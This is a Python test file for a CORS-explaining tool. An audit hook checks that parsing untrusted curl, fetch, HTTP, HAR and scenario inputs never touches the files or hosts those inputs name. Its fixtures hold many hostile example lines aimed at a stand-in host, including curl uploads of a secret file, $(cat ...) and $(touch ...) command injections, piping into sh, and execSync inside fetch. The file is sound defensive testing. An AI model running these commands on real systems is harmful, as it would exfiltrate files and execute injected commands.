"""That nothing is run, read, written or fetched because an input names it: neither on import nor in the playground.

Every input names a file that lies there and a host; what is asked of the operating system while it is dealt with is
listened to.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from corsim.explain.configuration import KINDS
from corsim.playground.answering import answer
from spec_tests.command_line import run

Refused = Callable[[], list[str]]

SECRET = "what-lies-in-the-file"
HOST = "bait.invalid"

TOUCHING = ("open", "os.", "subprocess.", "shutil.", "socket.", "ctypes.", "urllib.", "http.", "webbrowser.", "pty.")
"""How the audit events begin that tell of files, processes and networks."""

RUNNING = ("compile", "exec", "import")
"""Those that tell of code being run; of these the arguments must not have the bait in them."""


class Listening:
    """The audit events while it ``is_on``: a hook cannot be taken away."""

    def __init__(self) -> None:
        self.is_on = False
        self.heard: list[str] = []

    def __call__(self, event: str, arguments: tuple[Any, ...]) -> None:
        if self.is_on and event.startswith((*TOUCHING, *RUNNING)):
            self.is_on = False
            self.heard.append(f"{event} {arguments!r}")
            self.is_on = True


LISTENING = Listening()
sys.addaudithook(LISTENING)


class Bait:
    """A file with a secret in a folder of its own; what an input may name of it, and whether it was touched."""

    def __init__(self, folder: Path) -> None:
        self.path = folder / "bait.txt"
        self.path.write_text(SECRET, "utf-8")
        self.made = folder / "made-by-bait.txt"
        self._before = self.path.stat()

    def filled(self, text: str) -> str:
        """*text* with the paths and the host in their places."""
        return text.replace("BAIT", str(self.path)).replace("MADE", str(self.made)).replace("HOST", HOST)

    def was_left_alone(self, output: str) -> None:
        """Nothing was run, read, written or fetched, and *output* tells nothing of the file."""
        heard = [line for line in LISTENING.heard if "bait" in line or line.startswith(("subprocess.", "os.system"))]
        assert heard == []
        assert [line for line in LISTENING.heard if line.startswith(("socket.", "os.exec", "os.posix_spawn"))] == []
        assert not self.made.exists()
        assert self.path.read_text("utf-8") == SECRET
        assert self.path.stat().st_mtime_ns == self._before.st_mtime_ns
        assert SECRET not in output


@pytest.fixture
def bait(tmp_path: Path) -> Bait:
    return Bait(tmp_path)


def listened(action: Callable[[], str]) -> str:
    LISTENING.heard.clear()
    LISTENING.is_on = True
    try:
        return action()
    finally:
        LISTENING.is_on = False


CURL = [
    "curl https://HOST/ -d @BAIT",
    "curl https://HOST/ --data-binary @BAIT",
    "curl https://HOST/ --data-urlencode name@BAIT",
    "curl https://HOST/ --json @BAIT",
    "curl https://HOST/ -F 'file=@BAIT'",
    "curl https://HOST/ -F 'text=<BAIT'",
    "curl https://HOST/ -T BAIT",
    "curl https://HOST/ -H @BAIT",
    "curl https://HOST/ -b BAIT",
    "curl https://HOST/ -c MADE",
    "curl https://HOST/ -o MADE",
    "curl https://HOST/ -D MADE",
    "curl https://HOST/ --trace MADE",
    "curl https://HOST/ > MADE",
    "curl https://HOST/ < BAIT",
    "curl https://HOST/ -d @- < BAIT",
    "curl https://HOST/ --config BAIT",
    "curl -K BAIT",
    "curl https://HOST/ --netrc-file BAIT",
    "curl https://HOST/ --cacert BAIT --cert BAIT --key BAIT",
    "curl https://HOST/ --variable text@BAIT --expand-data '{{text}}'",
    "curl https://HOST/ --proxy http://HOST:3128",
    "curl https://HOST/ --resolve HOST:443:192.0.2.1",
    "curl https://HOST/ --dns-servers 192.0.2.1",
    "curl https://HOST/ --unix-socket BAIT",
    'curl https://HOST/ -d "$(touch MADE)"',
    'curl https://HOST/ -d "$(cat BAIT)"',
    "curl https://HOST/ -d `touch MADE`",
    "curl https://HOST/ -d <(cat BAIT)",
    "curl https://HOST/ ; touch MADE",
    "curl https://HOST/ && touch MADE",
    "curl https://HOST/ | sh -c 'touch MADE'",
    "curl https://HOST/\ntouch MADE",
    "cat BAIT | curl https://HOST/ -d @-",
    "$(touch MADE) curl https://HOST/",
    "X=$(touch MADE) curl https://HOST/",
    "curl file://BAIT",
    "curl https://HOST/ --url file://BAIT",
    'curl https://HOST/ -d "${HOME:-$(touch MADE)}"',
    "curl -H 'Origin: https://app.example.com' https://HOST/",
]

FETCH = [
    'fetch("https://HOST/", {"method": "PUT"});',
    'fetch("https://HOST/", {"body": require("fs").readFileSync("BAIT")});',
    'fetch("https://HOST/"); require("fs").writeFileSync("MADE", "");',
    'fetch("file://BAIT");',
    'fetch("https://HOST/", {"body": __import__("os").system("touch MADE")});',
    'fetch(`https://HOST/${require("child_process").execSync("touch MADE")}`);',
    'import x from "file://BAIT"; fetch("https://HOST/");',
]

HTTP = [
    "GET https://HOST/ HTTP/1.1\nOrigin: https://app.example.com\n",
    "POST https://HOST/ HTTP/1.1\nOrigin: https://app.example.com\n\n@BAIT",
    "GET file://BAIT HTTP/1.1\n",
    "GET https://HOST/ HTTP/1.1\n\nHTTP/1.1 302 Found\nLocation: file://BAIT\n",
]


def recorded(**parts: Any) -> str:
    """A HAR file with one entry, in which everything that can name something does."""
    header = {"name": "Access-Control-Allow-Origin", "value": "*"}
    request = {
        "method": "POST", "url": "https://HOST/x", "httpVersion": "HTTP/1.1", "headers": [],
        "cookies": [], "queryString": [], "headersSize": -1, "bodySize": -1,
        "postData": {"mimeType": "multipart/form-data", "params": [{"name": "f", "fileName": "BAIT"}], "text": ""},
    }  # fmt: skip
    response = {
        "status": 302, "statusText": "Found", "httpVersion": "HTTP/1.1", "headers": [header], "cookies": [],
        "redirectURL": "https://HOST/y", "headersSize": -1, "bodySize": -1,
        "content": {"size": 0, "mimeType": "text/html", "text": '<script src="https://HOST/x.js"></script>'},
    }  # fmt: skip
    entry = {
        "startedDateTime": "2026-01-01T00:00:00Z", "time": 1, "cache": {},
        "timings": {"send": 0, "wait": 0, "receive": 0},
        "request": {**request, **parts.get("request", {})}, "response": {**response, **parts.get("response", {})},
        "_initiator": {"type": "script", "url": "file://BAIT"}, "_securityDetails": {"file": "BAIT"},
    }  # fmt: skip
    page = {"id": "page", "startedDateTime": "2026-01-01T00:00:00Z", "title": "https://HOST/", "pageTimings": {}}
    log = {"version": "1.2", "creator": {"name": "x", "version": "1"}, "pages": [page], "entries": [entry]}
    return json.dumps({"$ref": "file://BAIT", "log": log})


HAR = [
    recorded(),
    recorded(request={"url": "file://BAIT"}),
    recorded(request={"postData": {"mimeType": "text/plain", "text": "@BAIT"}}),
    recorded(response={"content": {"size": 1, "mimeType": "text/plain", "text": "!!!", "encoding": "base64"}}),
]

SCENARIOS = [
    {"page": "https://HOST/", "request": {"url": "https://other.HOST/", "method": "PUT"}},
    {"page": "https://HOST/", "request": {"url": "file://BAIT"}},
    {"page": "file://BAIT", "request": "https://HOST/"},
    {"page": "https://HOST/", "request": {"url": "https://HOST/", "method": "POST", "body": "@BAIT"}},
    {"page": "https://HOST/", "request": {"url": "https://HOST/", "method": "POST", "body": {"file": "BAIT"}}},
    {"$schema": "https://HOST/schema.json", "page": "https://HOST/", "request": "https://HOST/"},
    {"$ref": "file://BAIT"},
    {
        "page": "https://HOST/",
        "request": "https://other.HOST/",
        "server": [{"status": 302, "headers": {"Location": "file://BAIT", "Access-Control-Allow-Origin": "*"}}],
    },
    {
        "page": "https://HOST/",
        "request": {"url": "https://other.HOST/", "integrity": "sha256-BAIT"},
        "cookies": [{"url": "https://other.HOST/", "set-cookie": "a=$(touch MADE)"}],
        "server": [{"body": "BAIT", "headers": {"Access-Control-Allow-Origin": "$(touch MADE)"}}],
    },
]

CONSOLE = [
    (
        "Access to fetch at 'https://HOST/x' from origin 'https://app.example.com' has been blocked by CORS policy: "
        "No 'Access-Control-Allow-Origin' header is present on the requested resource."
    ),
    (
        "Cross-Origin Request Blocked: The Same Origin Policy disallows reading the remote resource at file://BAIT. "
        "(Reason: CORS request not http)."
    ),
    "Fetch API cannot load file://BAIT due to access control checks.\n$(touch MADE)",
]

INPUTS = {
    **{f"curl {text[5:]}": (text, ("explain", "-", "--from", "curl")) for text in CURL},
    **{f"fetch {text}": (text, ("explain", "-", "--from", "fetch")) for text in FETCH},
    **{f"http {text}": (text, ("explain", "-", "--from", "http")) for text in HTTP},
    **{f"har {number}": (text, ("explain", "-", "--from", "har")) for number, text in enumerate(HAR)},
    **{f"scenario {number}": (json.dumps(one), ("explain", "-")) for number, one in enumerate(SCENARIOS)},
    **{f"console {number}": (text, ("explain", "--console", "-")) for number, text in enumerate(CONSOLE)},
}


@pytest.mark.parametrize("name", INPUTS)
def test_the_command_line_touches_nothing_that_an_input_names(name: str, bait: Bait, refused: Refused) -> None:
    """As it is recognised, too, where the input's kind is not said."""
    text, arguments = INPUTS[name]
    for words in sorted({arguments, arguments[:2] if "--from" in arguments else arguments}):
        output = listened(lambda: str(vars(run(words, bait.filled(text).encode()))))  # noqa: B023 - called at once
        assert "Traceback" not in output
        bait.was_left_alone(output)
    assert refused() == []


@pytest.mark.parametrize("number", range(len(SCENARIOS)))
def test_the_playground_touches_nothing_that_a_scenario_names(number: int, bait: Bait, refused: Refused) -> None:
    text = bait.filled(json.dumps(SCENARIOS[number]))
    bait.was_left_alone(listened(lambda: json.dumps(answer(text, next(iter(KINDS))))))
    assert refused() == []


def test_what_is_touched_would_be_heard(bait: Bait) -> None:
    """What the tests above rely on."""
    listened(lambda: bait.path.read_text("utf-8"))
    with pytest.raises(AssertionError):
        bait.was_left_alone("")
    listened(lambda: str(subprocess.run([sys.executable, "-S", "-c", "pass"], check=True)))
    with pytest.raises(AssertionError):
        bait.was_left_alone("")
    listened(lambda: str(os.system("true")))
    with pytest.raises(AssertionError):
        bait.was_left_alone("")
    listened(str)
    bait.was_left_alone("")
    with pytest.raises(AssertionError):
        bait.was_left_alone(SECRET)
